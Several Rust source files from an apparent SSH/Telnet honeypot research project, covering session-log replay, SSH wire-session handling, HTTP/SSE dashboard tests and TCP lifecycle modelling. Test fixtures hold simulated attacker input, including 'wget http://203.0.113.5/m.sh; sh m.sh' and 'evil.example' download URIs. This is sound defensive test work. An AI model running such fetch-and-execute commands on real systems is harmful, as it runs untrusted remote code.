/// salvage without it); anything after a valid header degrades to a
/// clean partial result.
pub fn replay(path: impl AsRef<Path>) -> Result<WalReplay, SessionDbError> {
    let path = path.as_ref();
    let bytes = std::fs::read(path).map_err(|e| SessionDbError::io(path, e))?;
    if bytes.len() < WAL_HEADER_LEN {
        return Err(SessionDbError::corrupt(path, "WAL header truncated"));
    }
    if bytes[0..4] != WAL_MAGIC {
        return Err(SessionDbError::BadMagic {
            path: path.display().to_string(),
        });
    }
    let version = u16::from_le_bytes(bytes[4..6].try_into().expect("2 bytes"));
    if version != WAL_VERSION {
        return Err(SessionDbError::BadVersion {
            path: path.display().to_string(),
            found: version,
        });
    }
    let stored_crc = u32::from_le_bytes(bytes[16..20].try_into().expect("4 bytes"));
    if crc32(&bytes[0..16]) != stored_crc {
        return Err(SessionDbError::corrupt(
            path,
            "WAL header checksum mismatch",
        ));
    }
    let segment_index = u64::from_le_bytes(bytes[8..16].try_into().expect("8 bytes"));

    let mut rows = Vec::new();
    let mut pos = WAL_HEADER_LEN;
    let mut bytes_lost = 0u64;
    while pos < bytes.len() {
        let rem = bytes.len() - pos;
        if rem < 8 {
            bytes_lost = rem as u64;
            break;
        }
        let len = u32::from_le_bytes(bytes[pos..pos + 4].try_into().expect("4 bytes")) as usize;
        let stored_crc = u32::from_le_bytes(bytes[pos + 4..pos + 8].try_into().expect("4 bytes"));
        if len > rem - 8 {
            // Torn tail: the frame was being written when the crash hit
            // (or the length itself is garbage). Either way, stop here.
            bytes_lost = rem as u64;
            break;
        }
        let payload = &bytes[pos + 8..pos + 8 + len];
        if crc32(payload) != stored_crc {
            bytes_lost = rem as u64;
            break;
        }
        match decode_record(payload) {
            Ok(rec) => rows.push(rec),
            Err(_) => {
                // CRC-valid but undecodable — treat like any other
                // corrupt tail rather than surfacing garbage rows.
                bytes_lost = rem as u64;
                break;
            }
        }
        pos += 8 + len;
    }
    Ok(WalReplay {
        segment_index,
        rows,
        bytes_lost,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use hutil::Date;

    fn rec(i: u64) -> SessionRecord {
        SessionRecord {
            session_id: i,
            honeypot_id: (i % 5) as u16,
            honeypot_ip: Ipv4Addr(0x0a00_0001),
            client_ip: Ipv4Addr(0xc0a8_0001 + i as u32),
            client_port: 1024 + i as u16,
            protocol: if i.is_multiple_of(2) {
                Protocol::Ssh
            } else {
                Protocol::Telnet
            },
            start: Date::new(2023, 6, 1).at_midnight().plus_secs(i as i64),
            end: Date::new(2023, 6, 1).at_midnight().plus_secs(i as i64 + 40),
            end_reason: SessionEndReason::ClientClose,
            client_version: i.is_multiple_of(3).then(|| format!("SSH-2.0-client-{i}")),
            logins: vec![LoginAttempt {
                username: "root".into(),
                password: format!("pw-{i}"),
                success: true,
            }],
            commands: vec![
                CommandRecord {
                    input: format!("echo wal-{i}"),
                    known: true,
                },
                CommandRecord {
                    input: "uname -a".into(),
                    known: true,
                },
            ],
            uris: vec![format!("http://evil.example/{i}.sh")],
            file_events: vec![FileEvent {
                path: format!("/tmp/.x{i}"),
                op: FileOp::Created {
                    sha256: format!("{i:064x}"),
                },
                source_uri: Some(format!("http://evil.example/{i}.sh")),
            }],
        }
    }

    fn tmpdir(tag: &str) -> PathBuf {
        let d = std::env::temp_dir().join(format!("hswal-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        d
    }

    fn write_wal(dir: &Path, n: u64, policy: FsyncPolicy) -> PathBuf {
        let path = dir.join(crate::WAL_FILE);
        let mut w = WalWriter::create(&path, policy, 3).unwrap();
        for i in 0..n {
            w.append(&rec(i)).unwrap();
        }
        path
    }

    #[test]
    fn record_codec_round_trips() {
        for i in 0..20 {
            let r = rec(i);
            let decoded = decode_record(&encode_record(&r)).unwrap();
            assert_eq!(decoded, r);
        }
    }

    #[test]
    fn replay_returns_everything_appended() {
        let dir = tmpdir("roundtrip");
        let path = write_wal(&dir, 12, FsyncPolicy::EveryN(4));
        let replay = replay(&path).unwrap();
        assert_eq!(replay.segment_index, 3);
        assert_eq!(replay.bytes_lost, 0);
        assert_eq!(replay.rows.len(), 12);
        for (i, r) in replay.rows.iter().enumerate() {
            assert_eq!(*r, rec(i as u64));
        }
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn reset_truncates_back_to_a_bare_header() {
        let dir = tmpdir("reset");
        let path = dir.join(crate::WAL_FILE);
        let mut w = WalWriter::create(&path, FsyncPolicy::Never, 0).unwrap();
        for i in 0..6 {
            w.append(&rec(i)).unwrap();
        }
        w.reset(1).unwrap();
        w.append(&rec(100)).unwrap();
        w.sync().unwrap();
        let replay = replay(&path).unwrap();
        assert_eq!(replay.segment_index, 1);
        assert_eq!(replay.rows.len(), 1);
        assert_eq!(replay.rows[0], rec(100));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn remove_deletes_the_file() {
        let dir = tmpdir("remove");
        let path = dir.join(crate::WAL_FILE);
        let w = WalWriter::create(&path, FsyncPolicy::default(), 0).unwrap();
        assert!(path.exists());
        w.remove().unwrap();
        assert!(!path.exists());
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// Mirror of the segment truncation sweep: chopping the file at any
    /// length yields a clean prefix of the appended records (or a typed
    /// header error for cuts inside the header) — never a panic, never a
    /// record that was not appended.
    #[test]
    fn truncation_recovers_a_clean_prefix() {
        let dir = tmpdir("trunc");
        let n = 10u64;
        let path = write_wal(&dir, n, FsyncPolicy::Never);
        let full = std::fs::read(&path).unwrap();
        let originals: Vec<_> = (0..n).map(rec).collect();
        let cut_path = dir.join("cut.hswal");
        let step = (full.len() / 211).max(1);
        for cut in (0..full.len()).step_by(step) {
            std::fs::write(&cut_path, &full[..cut]).unwrap();
            match replay(&cut_path) {
                Ok(r) => {
                    assert!(cut >= WAL_HEADER_LEN, "cut {cut} inside header must error");
                    assert!(r.rows.len() <= originals.len());
                    assert_eq!(r.rows, originals[..r.rows.len()], "cut {cut}");
                }
                Err(
                    SessionDbError::Corrupt { .. }
                    | SessionDbError::BadMagic { .. }
                    | SessionDbError::BadVersion { .. },
                ) => {
                    assert!(cut < WAL_HEADER_LEN, "cut {cut} past header must replay");
                }
                Err(e) => panic!("unexpected error at cut {cut}: {e}"),
            }
        }
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// Mirror of the segment bit-flip sweep: flipping a bit anywhere in
    /// the file yields a clean prefix or a typed error — never a panic,
    /// never a row that differs from what was appended.
    #[test]
    fn bit_flips_recover_a_clean_prefix_or_error() {
        let dir = tmpdir("flip");
        let n = 8u64;
        let path = write_wal(&dir, n, FsyncPolicy::Never);
        let full = std::fs::read(&path).unwrap();
        let originals: Vec<_> = (0..n).map(rec).collect();
        let flip_path = dir.join("flip.hswal");
        let step = (full.len() / 149).max(1);
        for off in (0..full.len()).step_by(step) {
            let mut mutated = full.clone();
            mutated[off] ^= 0x20;
            std::fs::write(&flip_path, &mutated).unwrap();
            match replay(&flip_path) {
                Ok(r) => {
                    assert!(r.rows.len() <= originals.len(), "offset {off}");
                    assert_eq!(r.rows, originals[..r.rows.len()], "offset {off}");
                }
                Err(
                    SessionDbError::Corrupt { .. }
                    | SessionDbError::BadMagic { .. }
                    | SessionDbError::BadVersion { .. },
                ) => {
                    assert!(off < WAL_HEADER_LEN, "typed errors only for header damage");
                }
                Err(e) => panic!("unexpected error at offset {off}: {e}"),
            }
        }
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// A frame whose length field is inflated past the end of the file
    /// must read as a torn tail, not an allocation or a panic.
    #[test]
    fn inflated_length_field_is_a_torn_tail() {
        let dir = tmpdir("len");
        let path = write_wal(&dir, 3, FsyncPolicy::Never);
        let mut bytes = std::fs::read(&path).unwrap();
        // Overwrite the first frame's length with a huge value.
        bytes[WAL_HEADER_LEN..WAL_HEADER_LEN + 4].copy_from_slice(&u32::MAX.to_le_bytes());
        std::fs::write(&path, &bytes).unwrap();
        let r = replay(&path).unwrap();
        assert!(r.rows.is_empty());
        assert_eq!(r.bytes_lost, (bytes.len() - WAL_HEADER_LEN) as u64);
        let _ = std::fs::remove_dir_all(&dir);
    }
}
