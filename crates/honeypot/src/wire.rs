//! Wire-accurate session path: the same honeypot policy and shell, driven
//! through a real `sshwire` dialogue.
//!
//! The bulk generator (`session`) skips byte framing for speed; this
//! module proves the equivalence by running a scripted client against the
//! honeypot over the full SSH message exchange and emitting the same
//! [`SessionRecord`]. Examples and integration tests use it.

use crate::auth::AuthPolicy;
use crate::record::{CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord};
use crate::shell::{RemoteStore, Shell};
use hutil::DateTime;
use netsim::Ipv4Addr;
use sshwire::{
    run_dialogue, AuthOutcome, ClientScript, ServerHandler, SshClient, SshError, SshServer,
};

/// Bridges the honeypot policy and shell into `sshwire`'s handler trait.
pub struct WireHandler<'s> {
    policy: AuthPolicy,
    shell: Shell<'s>,
    commands: Vec<CommandRecord>,
}

impl<'s> WireHandler<'s> {
    /// New handler over a fresh shell.
    pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore) -> Self {
        Self {
            policy,
            shell: Shell::new(store),
            commands: Vec::new(),
        }
    }
}

impl ServerHandler for WireHandler<'_> {
    fn auth(&mut self, username: &str, password: Option<&str>) -> AuthOutcome {
        match password {
            Some(pw) if self.policy.accept(username, pw) => AuthOutcome::Accept,
            // The `none` probe is always rejected, like Cowrie.
            _ => AuthOutcome::Reject,
        }
    }

    fn exec(&mut self, command: &str) -> (Vec<u8>, u32) {
        let outcome = self.shell.exec_line(command);
        self.commands.push(CommandRecord {
            input: command.to_string(),
            known: outcome.known,
        });
        let status = if outcome.known { 0 } else { 127 };
        (outcome.output.into_bytes(), status)
    }
}

/// Network identity of a wire session (addresses aren't part of the SSH
/// dialogue itself).
#[derive(Debug, Clone)]
pub struct WireSessionMeta {
    /// Target sensor id.
    pub honeypot_id: u16,
    /// Target sensor address.
    pub honeypot_ip: Ipv4Addr,
    /// Source address.
    pub client_ip: Ipv4Addr,
    /// Source port.
    pub client_port: u16,
    /// Handshake completion instant.
    pub start: DateTime,
}

/// Runs `script` against a honeypot over the full SSH wire protocol and
/// returns the session record plus total bytes exchanged.
pub fn run_wire_session(
    meta: &WireSessionMeta,
    script: ClientScript,
    policy: AuthPolicy,
    store: &dyn RemoteStore,
) -> Result<(SessionRecord, u64), SshError> {
    let client_version = script.version.clone();
    let client = SshClient::new(script, b"client-nonce".to_vec());
    let server = SshServer::new(
        WireHandler::new(policy, store),
        sshwire::SERVER_VERSION_DEFAULT,
        [0x5a; 16],
        b"server-nonce".to_vec(),
    );
    let (log, mut handler) = run_dialogue(client, server)?;

    let logins: Vec<LoginAttempt> = log
        .auth_log
        .iter()
        .map(|(user, pass, ok)| LoginAttempt {
            username: user.clone(),
            password: pass.clone().unwrap_or_default(),
            success: *ok,
        })
        .collect();
    let (uris, file_events) = handler.shell.take_observations();

    // Wall-clock modelling for the wire path: one second per protocol
    // round plus one per command, matching the bulk path's scale.
    let rounds = 3 + logins.len() as i64 + handler.commands.len() as i64;
    let record = SessionRecord {
        session_id: 0,
        honeypot_id: meta.honeypot_id,
        honeypot_ip: meta.honeypot_ip,
        client_ip: meta.client_ip,
        client_port: meta.client_port,
        protocol: Protocol::Ssh,
        start: meta.start,
        end: meta.start.plus_secs(rounds),
        end_reason: SessionEndReason::ClientClose,
        client_version: Some(client_version),
        logins,
        commands: std::mem::take(&mut handler.commands),
        uris,
        file_events,
    };
    Ok((record, log.bytes_to_server + log.bytes_to_client))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::FileOp;
    use crate::shell::NullStore;
    use hutil::Date;

    fn meta() -> WireSessionMeta {
        WireSessionMeta {
            honeypot_id: 7,
            honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 7),
            client_ip: Ipv4Addr::from_octets(10, 9, 8, 7),
            client_port: 55555,
            start: Date::new(2023, 2, 14).at(8, 0, 0),
        }
    }

    #[test]
    fn wire_session_produces_full_record() {
        let fetch =
            |uri: &str| (uri == "http://203.0.113.5/m.sh").then(|| b"#!/bin/sh\nM\n".to_vec());
        let script = ClientScript::new(
            "root",
            &["root", "admin"],
            &["uname -a", "cd /tmp; wget http://203.0.113.5/m.sh; sh m.sh"],
        );
        let (rec, bytes) =
            run_wire_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();
        assert_eq!(rec.logins.len(), 2);
        assert!(!rec.logins[0].success);
        assert!(rec.logins[1].success);
        assert_eq!(rec.commands.len(), 2);
        assert!(rec.commands.iter().all(|c| c.known));
        assert_eq!(rec.uris, vec!["http://203.0.113.5/m.sh"]);
        assert!(rec.changes_state());
        assert!(rec.attempts_exec());
        assert!(bytes > 500, "a real dialogue moves real bytes");
    }

    #[test]
    fn wire_and_bulk_paths_agree() {
        use crate::session::{SessionInput, SessionSim};
        use netsim::latency::LatencyModel;

        let fetch =
            |uri: &str| (uri == "http://203.0.113.5/m.sh").then(|| b"#!/bin/sh\nM\n".to_vec());
        let commands = vec![
            "cd /tmp".to_string(),
            "wget http://203.0.113.5/m.sh; sh m.sh".to_string(),
        ];

        let script = ClientScript::new("root", &["root", "1234"], &[&commands[0], &commands[1]]);
        let (wire_rec, _) =
            run_wire_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();

        let sim = SessionSim::new(AuthPolicy::default(), &fetch, LatencyModel::new(1));
        let bulk_rec = sim.run(SessionInput {
            honeypot_id: 7,
            honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 7),
            client_ip: Ipv4Addr::from_octets(10, 9, 8, 7),
            client_port: 55555,
            protocol: Protocol::Ssh,
            start: Date::new(2023, 2, 14).at(8, 0, 0),
            client_version: Some("SSH-2.0-Go".into()),
            logins: vec![
                ("root".into(), "root".into()),
                ("root".into(), "1234".into()),
            ],
            commands,
            idle_out: false,
        });

        // The observable record content must be identical (timing differs).
        assert_eq!(wire_rec.logins.len(), bulk_rec.logins.len());
        for (w, b) in wire_rec.logins.iter().zip(&bulk_rec.logins) {
            assert_eq!(
                (w.username.as_str(), w.success),
                (b.username.as_str(), b.success)
            );
        }
        assert_eq!(wire_rec.commands, bulk_rec.commands);
        assert_eq!(wire_rec.uris, bulk_rec.uris);
        assert_eq!(wire_rec.file_events, bulk_rec.file_events);
    }

    #[test]
    fn phil_probe_over_the_wire() {
        let store = NullStore;
        let mut script = ClientScript::new("phil", &["anything"], &[]);
        script.hangup_after_auth = true;
        let (rec, _) = run_wire_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
        assert!(rec.login_succeeded());
        assert_eq!(rec.accepted_username(), Some("phil"));
        assert!(rec.commands.is_empty());
        assert!(!rec
            .file_events
            .iter()
            .any(|e| matches!(e.op, FileOp::Created { .. })));
    }
}
