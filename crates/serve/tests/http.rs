//! Observability-plane integration tests: real HTTP/SSE clients against a
//! running [`serve::Server`] while scripted SSH attackers keep it busy.
//!
//! The load-bearing claims checked here:
//!   * `/api/stats` reports the *same* taxonomy and credential ranking a
//!     post-hoc [`TaxonomyAccumulator`] / [`TopPasswordsAccumulator`] pass
//!     over the spilled store produces — live and batch analysis agree.
//!   * `/events` delivers one well-formed `session` frame per closed
//!     session, parseable by the crate's own [`sse::FrameParser`].
//!   * A dashboard polling `/api/stats` throughout a 200-client barrage
//!     never causes a single shed connection on the honeypot plane.

use serve::sse::FrameParser;
use serve::stats::{ApiSnapshot, TOP_CREDENTIALS};
use serve::{ServeConfig, Server, ServerHandle};
use sshwire::{ClientScript, SshClient};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Barrier};
use std::time::{Duration, Instant};

fn temp_store(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("serve-http-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// Plays one scripted SSH session over a real socket.
fn drive_ssh(addr: SocketAddr, script: ClientScript) {
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(20)))
        .unwrap();
    stream.set_nodelay(true).ok();
    let mut client = SshClient::new(script, b"http-test-nonce".to_vec());
    let mut buf = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(60);
    while !client.is_closed() {
        assert!(Instant::now() < deadline, "client dialogue stalled");
        let out = client.take_output();
        if !out.is_empty() {
            stream.write_all(&out).expect("client write");
        }
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => client.input(&buf[..n]).expect("client protocol"),
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(e) => panic!("client read failed: {e}"),
        }
    }
    let out = client.take_output();
    if !out.is_empty() {
        let _ = stream.write_all(&out);
    }
}

/// One plain HTTP/1.1 GET with `Connection: close`; returns (status, body).
fn http_get(addr: SocketAddr, path: &str) -> (u16, String) {
    let mut stream = TcpStream::connect(addr).expect("http connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    stream
        .write_all(
            format!("GET {path} HTTP/1.1\r\nHost: test\r\nConnection: close\r\n\r\n").as_bytes(),
        )
        .expect("http write");
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).expect("http read");
    let text = String::from_utf8(raw).expect("http response is utf-8");
    let (head, body) = text
        .split_once("\r\n\r\n")
        .expect("response has a header/body split");
    let status: u16 = head
        .split_whitespace()
        .nth(1)
        .expect("status line")
        .parse()
        .expect("numeric status");
    (status, body.to_string())
}

/// Spins until the live snapshot has folded in `n` sessions.
fn wait_for_sessions(handle: &ServerHandle, n: u64) -> Arc<ApiSnapshot> {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let snap = handle.api_snapshot().expect("aggregator running");
        if snap.taxonomy.total_sessions >= n {
            return snap;
        }
        assert!(
            Instant::now() < deadline,
            "snapshot stuck at {} of {n} sessions",
            snap.taxonomy.total_sessions
        );
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// The equivalence oracle: replays the sealed store through the same core
/// accumulators batch `analyze` uses and insists the live snapshot already
/// said exactly that.
fn assert_snapshot_matches_store(snap: &ApiSnapshot, dir: &Path) {
    use honeylab_core::logins::TopPasswordsAccumulator;
    use honeylab_core::taxonomy::TaxonomyAccumulator;

    let store = sessiondb::Store::open(dir).expect("open sealed store");
    let mut taxonomy = TaxonomyAccumulator::default();
    let mut credentials = TopPasswordsAccumulator::new(TOP_CREDENTIALS);
    let mut rows = 0u64;
    for rec in store.scan().records() {
        let rec = rec.expect("intact CRCs");
        taxonomy.push(&rec);
        credentials.push(&rec);
        rows += 1;
    }
    assert!(rows > 0, "store holds the spilled sessions");
    assert_eq!(
        snap.taxonomy,
        taxonomy.finish(),
        "live taxonomy must equal the post-hoc pass over the store"
    );
    // TopPasswords has no PartialEq; its v1 JSON rendering is the wire
    // contract anyway, so compare that.
    assert_eq!(
        honeylab_core::api::passwords_json(&snap.credentials).pretty(),
        honeylab_core::api::passwords_json(&credentials.finish()).pretty(),
        "live credential ranking must equal the post-hoc pass"
    );
}

#[test]
fn api_stats_equal_post_hoc_analysis_over_the_store() {
    let dir = temp_store("equivalence");
    let cfg = ServeConfig {
        store_dir: Some(dir.clone()),
        workers: 4,
        http_port: Some(0),
        stats_interval: None,
        rows_per_segment: 5, // several sealed segments from 12 sessions
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let ssh = handle.addrs().ssh.expect("ssh addr");
    let http = handle.addrs().http.expect("http addr");

    let n = 12u64;
    std::thread::scope(|scope| {
        for i in 0..n {
            scope.spawn(move || {
                let script = ClientScript::new(
                    "root",
                    &["wrong-guess", "admin"],
                    &[&format!("echo live-{i}"), "uname -a"],
                );
                drive_ssh(ssh, script);
            });
        }
    });
    let snap = wait_for_sessions(&handle, n);

    // The HTTP plane serves the very same snapshot object.
    let (status, body) = http_get(http, "/api/stats");
    assert_eq!(status, 200);
    assert!(body.contains("\"honeylab_api\": \"v1\""), "{body}");
    assert!(body.contains("\"kind\": \"stats\""), "{body}");
    assert!(body.contains(&format!("\"total_sessions\": {n}")), "{body}");
    let (status, body) = http_get(http, "/api/sessions/recent");
    assert_eq!(status, 200);
    assert_eq!(body.matches("\"class\"").count(), n as usize);
    let (status, body) = http_get(http, "/api/health");
    assert_eq!(status, 200);
    assert!(body.contains("\"status\": \"ok\""), "{body}");
    let (status, _) = http_get(http, "/api/no-such-thing");
    assert_eq!(status, 404);

    handle.trigger_shutdown();
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, n);
    assert_eq!(report.ingest.accepted, n);

    assert_snapshot_matches_store(&snap, &dir);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn sse_feed_streams_one_frame_per_session() {
    let cfg = ServeConfig {
        workers: 2,
        http_port: Some(0),
        stats_interval: None,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let ssh = handle.addrs().ssh.expect("ssh addr");
    let http = handle.addrs().http.expect("http addr");

    // Subscribe before any session exists.
    let mut stream = TcpStream::connect(http).expect("sse connect");
    stream
        .set_read_timeout(Some(Duration::from_millis(50)))
        .unwrap();
    stream
        .write_all(b"GET /events HTTP/1.1\r\nHost: test\r\nAccept: text/event-stream\r\n\r\n")
        .expect("sse request");

    // Read the response head first; everything after it is SSE frames.
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    let deadline = Instant::now() + Duration::from_secs(10);
    while !head.ends_with(b"\r\n\r\n") {
        assert!(Instant::now() < deadline, "SSE headers never completed");
        match stream.read(&mut byte) {
            Ok(0) => panic!("server closed the SSE stream during headers"),
            Ok(_) => head.extend_from_slice(&byte),
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(e) => panic!("SSE read failed: {e}"),
        }
    }
    let head = String::from_utf8(head).expect("utf-8 headers");
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    assert!(head.contains("Content-Type: text/event-stream"), "{head}");

    let n = 3usize;
    for i in 0..n {
        let script = ClientScript::new("root", &["admin"], &[&format!("echo sse-{i}")]);
        drive_ssh(ssh, script);
    }

    // Every closed session must arrive as a parseable `session` frame
    // carrying a v1 `session_event` envelope.
    let mut parser = FrameParser::default();
    let mut sessions = Vec::new();
    let mut buf = [0u8; 4096];
    let deadline = Instant::now() + Duration::from_secs(20);
    while sessions.len() < n {
        assert!(
            Instant::now() < deadline,
            "only {} of {n} SSE session frames arrived",
            sessions.len()
        );
        match stream.read(&mut buf) {
            Ok(0) => panic!("server closed the SSE stream early"),
            Ok(read) => {
                for ev in parser.push(&buf[..read]) {
                    if ev.event == "session" {
                        sessions.push(ev.data);
                    }
                }
            }
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(e) => panic!("SSE read failed: {e}"),
        }
    }
    // Live frames are compact-rendered (one `data:` line per frame).
    for (i, data) in sessions.iter().enumerate() {
        assert!(
            data.contains("\"honeylab_api\":\"v1\""),
            "frame {i}: {data}"
        );
        assert!(data.contains("\"kind\":\"session\""), "frame {i}: {data}");
        assert!(data.contains("\"protocol\":\"ssh\""), "frame {i}: {data}");
    }

    // Drain must hang up on the subscriber, not strand it.
    handle.trigger_shutdown();
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        assert!(Instant::now() < deadline, "SSE stream survived the drain");
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(_) => {}
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => break, // reset is as good as EOF here
        }
    }
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, n as u64);
}

/// The acceptance bar from the issue: 200 concurrent attackers with a
/// dashboard polling throughout, zero shed, and the final live totals
/// exactly equal to batch analysis of the store.
#[test]
fn polling_dashboard_causes_zero_shed_under_200_clients() {
    const CLIENTS: usize = 200;
    let dir = temp_store("dashboard-load");
    let cfg = ServeConfig {
        store_dir: Some(dir.clone()),
        workers: 4,
        http_port: Some(0),
        stats_interval: None,
        max_connections: CLIENTS + 50,
        per_ip_limit: CLIENTS + 50,
        ..ServeConfig::default()
    };
    let handle = Server::start(cfg).expect("start");
    let ssh = handle.addrs().ssh.expect("ssh addr");
    let http = handle.addrs().http.expect("http addr");

    // The dashboard: hammer /api/stats on its own connections for the
    // whole duration of the barrage.
    let stop = Arc::new(AtomicBool::new(false));
    let polls = Arc::new(AtomicU64::new(0));
    let dashboard = {
        let stop = Arc::clone(&stop);
        let polls = Arc::clone(&polls);
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                let (status, body) = http_get(http, "/api/stats");
                assert_eq!(status, 200);
                assert!(body.contains("\"honeylab_api\": \"v1\""));
                polls.fetch_add(1, Ordering::Relaxed);
                std::thread::sleep(Duration::from_millis(5));
            }
        })
    };

    // All attackers arrive together.
    let barrier = Arc::new(Barrier::new(CLIENTS));
    let mut clients = Vec::with_capacity(CLIENTS);
    for i in 0..CLIENTS {
        let barrier = Arc::clone(&barrier);
        clients.push(std::thread::spawn(move || {
            let script =
                ClientScript::new("root", &["admin"], &[&format!("echo load-{i}"), "uname -a"]);
            barrier.wait();
            drive_ssh(ssh, script);
        }));
    }
    for c in clients {
        c.join().expect("client thread");
    }
    let snap = wait_for_sessions(&handle, CLIENTS as u64);

    stop.store(true, Ordering::Relaxed);
    dashboard.join().expect("dashboard thread");
    assert!(
        polls.load(Ordering::Relaxed) >= 10,
        "the dashboard really polled during the run"
    );

    handle.trigger_shutdown();
    let report = handle.join().expect("join");
    assert_eq!(report.snapshot.completed, CLIENTS as u64);
    assert_eq!(
        report.snapshot.shed_capacity, 0,
        "zero shed with dashboard attached"
    );
    assert_eq!(report.snapshot.shed_per_ip, 0);
    assert_eq!(report.snapshot.wire_errors, 0);
    assert_eq!(report.ingest.accepted, CLIENTS as u64);

    // Live == batch, at full load.
    assert_snapshot_matches_store(&snap, &dir);
    // And the windows saw the admissions the gate counted.
    let w1h = &snap.windows[2];
    assert_eq!(w1h.label, "1h");
    assert_eq!(w1h.admitted, CLIENTS as u64);
    assert_eq!(w1h.shed, 0);
    let _ = std::fs::remove_dir_all(&dir);
}
