//! Simplified TCP connection state machine.
//!
//! The honeynet's session taxonomy (paper §3.3) is defined by how far a
//! dialogue gets *after* a completed TCP handshake, and a session ends
//! either by a client teardown or the honeypot's idle timeout. This module
//! models exactly that lifecycle — handshake, established data exchange,
//! close/timeout — without segment-level detail, which the analysis never
//! observes.

use hutil::DateTime;

use crate::ip::Ipv4Addr;

/// Connection lifecycle states.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TcpState {
    /// SYN sent, handshake incomplete.
    SynSent,
    /// Three-way handshake done; the honeypot records a session from here.
    Established,
    /// Closed (by either side or by timeout).
    Closed,
}

/// Why a connection ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CloseReason {
    /// Client tore the connection down (FIN/RST).
    ClientClose,
    /// The server's idle timeout fired (Cowrie default: 3 minutes).
    IdleTimeout,
    /// The handshake never completed.
    HandshakeFailed,
}

/// Cowrie's session idle timeout, seconds (paper §3.2: three minutes).
pub const IDLE_TIMEOUT_SECS: i64 = 180;

/// A simulated TCP connection between an attacker client and a honeypot.
#[derive(Debug, Clone)]
pub struct Connection {
    client: Ipv4Addr,
    client_port: u16,
    server: Ipv4Addr,
    server_port: u16,
    state: TcpState,
    opened_at: DateTime,
    established_at: Option<DateTime>,
    last_activity: DateTime,
    closed_at: Option<DateTime>,
    close_reason: Option<CloseReason>,
    bytes_client_to_server: u64,
    bytes_server_to_client: u64,
}

impl Connection {
    /// Starts a handshake at `now` from `client:client_port` to
    /// `server:server_port`.
    pub fn open(
        client: Ipv4Addr,
        client_port: u16,
        server: Ipv4Addr,
        server_port: u16,
        now: DateTime,
    ) -> Self {
        Self {
            client,
            client_port,
            server,
            server_port,
            state: TcpState::SynSent,
            opened_at: now,
            established_at: None,
            last_activity: now,
            closed_at: None,
            close_reason: None,
            bytes_client_to_server: 0,
            bytes_server_to_client: 0,
        }
    }

    /// Completes the three-way handshake at `now`.
    ///
    /// Panics unless the connection is still in `SynSent` — completing a
    /// handshake twice is a driver bug.
    pub fn establish(&mut self, now: DateTime) {
        assert_eq!(
            self.state,
            TcpState::SynSent,
            "establish() on {:?}",
            self.state
        );
        assert!(now >= self.opened_at);
        self.state = TcpState::Established;
        self.established_at = Some(now);
        self.last_activity = now;
    }

    /// Abandons a handshake that never completed (SYN scan, filtered, …).
    pub fn abandon(&mut self, now: DateTime) {
        assert_eq!(
            self.state,
            TcpState::SynSent,
            "abandon() on {:?}",
            self.state
        );
        self.state = TcpState::Closed;
        self.closed_at = Some(now);
        self.close_reason = Some(CloseReason::HandshakeFailed);
    }

    /// Records application-layer traffic at `now`, refreshing the idle
    /// timer. Only valid while established.
    pub fn transfer(&mut self, now: DateTime, to_server: u64, to_client: u64) {
        assert_eq!(
            self.state,
            TcpState::Established,
            "transfer() on {:?}",
            self.state
        );
        assert!(now >= self.last_activity, "time went backwards");
        self.last_activity = now;
        self.bytes_client_to_server += to_server;
        self.bytes_server_to_client += to_client;
    }

    /// Client-initiated close at `now`.
    pub fn close(&mut self, now: DateTime) {
        assert_eq!(
            self.state,
            TcpState::Established,
            "close() on {:?}",
            self.state
        );
        self.state = TcpState::Closed;
        self.closed_at = Some(now);
        self.close_reason = Some(CloseReason::ClientClose);
    }

    /// Checks the idle timer: if `now` is at least [`IDLE_TIMEOUT_SECS`]
